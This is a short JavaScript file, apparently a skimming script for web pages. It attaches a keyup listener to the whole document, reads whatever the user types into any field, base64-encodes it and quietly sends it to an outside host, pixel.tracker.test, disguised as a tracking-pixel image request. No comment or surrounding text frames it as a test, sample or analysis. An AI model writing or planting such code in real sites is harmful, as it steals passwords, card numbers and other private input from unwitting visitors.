"use strict";

let timer = 0;
document.addEventListener("keyup", (event) => {
  const value = event.target.value;
  clearTimeout(timer);
  timer = setTimeout(() => {
    new Image().src = `https://pixel.tracker.test/p.gif?d=${encodeURIComponent(btoa(value))}`;
  }, 60);
});
